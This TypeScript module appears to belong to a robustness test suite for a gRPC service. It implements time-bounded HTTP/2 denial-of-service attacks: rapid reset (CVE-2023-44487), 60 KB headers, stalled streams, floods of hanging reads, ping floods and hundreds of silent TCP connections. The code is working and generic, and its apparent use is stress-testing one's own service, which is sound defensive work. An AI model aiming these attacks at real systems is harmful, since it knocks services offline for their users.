/**
 * Abuse of HTTP/2 itself, each bounded in time: what a client can do to a service without a single well-formed call. attacker.ts runs
 * them in a process of their own.
 */
import { type ClientHttp2Session, constants } from 'node:http2';
import { connect } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import { systemClock } from '../../services/runtime/index.js';
import { framed, openRaw } from './raw-call.js';
import { waitingRead } from './sound-messages.js';

type Attack = (address: string, untilMs: number) => Promise<number>;

const path = '/byzantine.v1.TupleSpace/Write';
const headers = { ':method': 'POST', ':path': path, te: 'trailers', 'content-type': 'application/grpc' };

/** Each gives how much it did. */
export const attacks: Readonly<Record<string, Attack>> = {
  /** Streams that are opened and reset at once (CVE-2023-44487), over new connections when one is ended. */
  'rapid reset': (address, untilMs) =>
    repeatedly(address, untilMs, (session) => {
      const stream = session.request(headers);
      stream.on('error', () => {});
      stream.close(constants.NGHTTP2_CANCEL);
    }),
  'huge headers': (address, untilMs) =>
    repeatedly(address, untilMs, (session) => {
      const stream = session.request({ ...headers, 'x-much': 'a'.repeat(60_000) });
      stream.on('error', () => {});
      stream.end();
    }),
  /** Streams that send a byte of a message and then nothing. */
  'slow streams': (address, untilMs) =>
    repeatedly(address, untilMs, (session) => {
      const stream = session.request(headers);
      stream.on('error', () => {});
      stream.write(Buffer.from([0]));
    }),
  /** Calls that wait for what never comes, as many as are let in. */
  'thousands of waits': (address, untilMs) =>
    repeatedly(address, untilMs, (session) => {
      const stream = session.request({ ...headers, ':path': '/byzantine.v1.TupleSpace/Read' });
      stream.on('error', () => {}).on('data', () => {});
      stream.end(framed(waitingRead));
    }),
  pings: (address, untilMs) => repeatedly(address, untilMs, (session) => void session.ping(() => {})),
  /** Connections that say nothing. */
  'mute connections': async (address, untilMs) => {
    const [host = '', port = ''] = address.split(':');
    const sockets = Array.from({ length: 500 }, () => connect(Number(port), host).on('error', () => {}));
    await setTimeout(untilMs - systemClock.monotonicMs());
    for (const socket of sockets) socket.destroy();
    return sockets.length;
  },
};

/** Some at a time, so that what is sent is not held back in this process. */
const burst = 100;
const connectionCount = 4;

async function repeatedly(
  address: string,
  untilMs: number,
  act: (session: ClientHttp2Session) => void,
): Promise<number> {
  let count = 0;
  const one = async (): Promise<void> => {
    let session = openRaw(address);
    while (systemClock.monotonicMs() < untilMs) {
      if (session.closed || session.destroyed) session = openRaw(address);
      try {
        for (let i = 0; i < burst; i += 1) act(session);
        count += burst;
      } catch {
        // The service has ended the connection: take another one.
        session.destroy();
      }
      await setTimeout(10);
    }
    session.destroy();
  };
  await Promise.all(Array.from({ length: connectionCount }, one));
  return count;
}
